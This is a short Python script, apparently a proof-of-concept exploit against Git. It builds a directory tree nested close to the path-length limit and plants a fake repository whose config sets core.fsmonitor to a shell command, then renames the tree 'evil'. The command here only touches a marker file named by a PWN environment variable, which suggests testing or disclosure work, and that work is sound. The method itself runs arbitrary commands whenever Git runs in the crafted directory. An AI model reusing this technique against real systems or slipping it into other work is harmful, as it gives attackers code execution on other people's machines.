import os, subprocess
base = os.getcwd(); cur = len(base) + 5
os.mkdir('deep'); os.chdir('deep')
while cur < 4089:
    r = 4089 - cur; k = min(200, r - 1)
    if r - 1 - k == 1: k -= 1
    os.mkdir('d' * k); os.chdir('d' * k); cur += k + 1
def w(n, t):
    try: open(n, 'w').write(t)
    except OSError as e: print(n, e)
for d in ('objects', 'refs'):
    try: os.mkdir(d)
    except OSError as e: print(d, e)
w('HEAD', 'ref: refs/heads/main\n')
w('config', '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch %s; false"\n' % os.environ['PWN'])
os.chdir('..')
try: os.rename(os.listdir('.')[0], 'evil', dst_dir_fd=os.open(base, os.O_RDONLY))
except OSError as e: print(e)
